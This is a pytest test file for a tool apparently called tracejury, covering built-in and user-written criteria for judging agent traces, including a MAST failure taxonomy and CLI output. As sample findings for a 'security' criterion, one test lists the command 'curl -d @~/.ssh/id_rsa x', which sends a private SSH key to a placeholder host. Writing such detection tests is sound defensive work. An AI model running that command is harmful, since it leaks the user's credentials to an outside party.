"""Built-in criteria files, user criteria files and `tracejury criteria list|show`."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tracejury.criteria_loader import builtin_names, criteria_for_perspectives, load_criteria
from tracejury.orchestrator.analysis.prompting import shared_prefix
from tracejury.orchestrator.analysis.schema import field_specs, finding_schema, validate_answer
from tracejury.orchestrator.cli.main import main

MAST_MODES = {
    "1.1": "Disobey Task Specification",
    "1.2": "Disobey Role Specification",
    "1.3": "Step Repetition",
    "1.4": "Loss of Conversation History",
    "1.5": "Unaware of Termination Conditions",
    "2.1": "Conversation Reset",
    "2.2": "Fail to Ask for Clarification",
    "2.3": "Task Derailment",
    "2.4": "Information Withholding",
    "2.5": "Ignored Other Agent's Input",
    "2.6": "Reasoning-Action Mismatch",
    "3.1": "Premature Termination",
    "3.2": "No or Incomplete Verification",
    "3.3": "Incorrect Verification",
}


def test_builtins_are_all_there_and_well_formed() -> None:
    names = builtin_names()
    assert names == [
        "attribution",
        "behavior",
        "correctness",
        "efficiency",
        "mast",
        "quick",
        "triage",
    ]
    for name in names:
        c = load_criteria(name)
        assert c.name == name and c.source == f"builtin:{name}"
        assert c.description and len(c.body) > 400, name
        assert c.perspective == name  # each built-in is its own perspective
        finding_schema(c)  # derivable
        assert "## " in c.body  # structured instructions, not a one-liner


def test_perspectives_select_the_three_massgen_builtins() -> None:
    picked = criteria_for_perspectives(["correctness", "efficiency", "behavior"])
    assert [c.name for c in picked] == ["correctness", "efficiency", "behavior"]
    # the ten standard questions are covered between the three
    text = " ".join(c.body.lower() for c in picked)
    for topic in (
        "voting",  # 1 correctness
        "slowest",  # 2 efficiency & bottlenecks
        "repeated",  # 3 command patterns
        "duplication",  # 4 work duplication
        "build on each other",  # 5 agent behavior
        "cache hit rate",  # 6 cost & tokens
        "timeouts",  # 7 errors
        "strategy",  # 8 reasoning & behavior
        "false success",  # 9 tool reliability (inconsistent / false positives)
        "enforcement retries",  # 10 enforcement & workflow reliability
    ):
        assert topic in text, topic


def test_mast_has_the_14_official_modes_in_3_categories() -> None:
    mast = load_criteria("mast")
    assert list(mast.categories) == [
        "specification_issues",
        "inter_agent_misalignment",
        "task_verification",
    ]
    modes = [s for subs in mast.categories.values() for s in subs]
    assert len(modes) == 14
    assert {m.split(" ", 1)[0]: m.split(" ", 1)[1] for m in modes} == MAST_MODES
    for cat, prefix in zip(mast.categories, ("1.", "2.", "3."), strict=True):
        assert all(s.startswith(prefix) for s in mast.categories[cat])


def test_quick_and_attribution_vocabulary() -> None:
    quick = load_criteria("quick")
    assert list(quick.categories) == ["model", "tool", "infra"]
    (spec,) = field_specs(quick)
    assert (spec.name, spec.kind, spec.choices) == ("is_actionable", "enum", ("yes", "no"))
    attribution = load_criteria("attribution")
    specs = {s.name: s.kind for s in field_specs(attribution)}
    assert specs == {"responsible_agent": "string", "decisive_step": "integer"}


def test_a_users_own_criteria_file_works_like_a_builtin(tmp_path: Path) -> None:
    f = tmp_path / "security.md"
    f.write_text(
        "---\nname: security\ndescription: Did the agent do anything unsafe?\nperspective: safety\n"
        "categories:\n  data_exfiltration: [network, file_copy]\n  destructive_command: []\n"
        "fields:\n  severity: 'low|medium|high: how bad it was'\n  commands: 'list: the unsafe commands'\n"
        "---\n## Your task\nLook for unsafe actions.\n",
        encoding="utf-8",
    )
    c = load_criteria(str(f))
    assert c.perspective == "safety"
    props = finding_schema(c)["properties"]
    assert props["severity"]["enum"] == ["low", "medium", "high", None]
    prefix = shared_prefix(c)
    assert (
        "Look for unsafe actions." in prefix and "`severity` (low | medium | high | null)" in prefix
    )
    a = validate_answer(
        c,
        {
            "outcome": "failed",
            "evidence": [],
            "summary": "s",
            "root_cause": "r",
            "category": "data_exfiltration",
            "subcategory": "network",
            "actionable": "a",
            "confidence": "low",
            "severity": "HIGH",
            "commands": ["curl -d @~/.ssh/id_rsa x"],
        },
    )
    assert a.extra == {"severity": "high", "commands": ["curl -d @~/.ssh/id_rsa x"]}


def test_fields_may_be_written_as_mappings(tmp_path: Path) -> None:
    f = tmp_path / "typed.md"
    f.write_text(
        "---\nname: typed\nfields:\n  step: {type: integer, description: where it broke}\n"
        "  severity: {enum: [low, high], description: how bad}\n---\nJudge.\n",
        encoding="utf-8",
    )
    specs = {s.name: (s.kind, s.choices, s.description) for s in field_specs(load_criteria(str(f)))}
    assert specs == {
        "step": ("integer", (), "where it broke"),
        "severity": ("enum", ("low", "high"), "how bad"),
    }


def test_cli_criteria_list(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["criteria", "list"]) == 0
    out = capsys.readouterr().out
    assert len(builtin_names()) == 7
    for name in builtin_names():
        assert name in out
    assert main(["criteria", "list", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    by_name = {r["name"]: r for r in rows}
    assert by_name["mast"]["perspective"] == "mast"
    assert by_name["attribution"]["fields"] == ["responsible_agent", "decisive_step"]


def test_cli_criteria_show(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["criteria", "show", "attribution"]) == 0
    out = capsys.readouterr().out
    assert "decisive_step (integer)" in out and "responsible_agent (string)" in out
    assert "## Your task" in out

    assert main(["criteria", "show", "quick", "--schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    assert schema["properties"]["category"]["enum"] == ["model", "tool", "infra", None]

    assert main(["criteria", "show", "mast", "--prompt"]) == 0
    assert "2.6 Reasoning-Action Mismatch" in capsys.readouterr().out

    f = tmp_path / "mine.md"
    f.write_text("---\nname: mine\ncategories: [a, b]\n---\nJudge it.\n", encoding="utf-8")
    assert main(["criteria", "show", str(f)]) == 0
    assert "mine" in capsys.readouterr().out


def test_cli_criteria_show_errors_are_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert main(["criteria", "show", "no_such_criteria"]) == 1
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "unknown criteria 'no_such_criteria'" in err

    bad = tmp_path / "bad.md"
    bad.write_text("---\nname: [unclosed\n---\nbody\n", encoding="utf-8")
    assert main(["criteria", "show", str(bad)]) == 1
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "bad.md" in err and "invalid YAML" in err

    clash = tmp_path / "clash.md"
    clash.write_text(
        "---\nname: clash\nfields:\n  confidence: 'integer: x'\n---\nbody\n", encoding="utf-8"
    )
    assert main(["criteria", "show", str(clash)]) == 1
    assert "clashes with a standard finding field" in capsys.readouterr().err
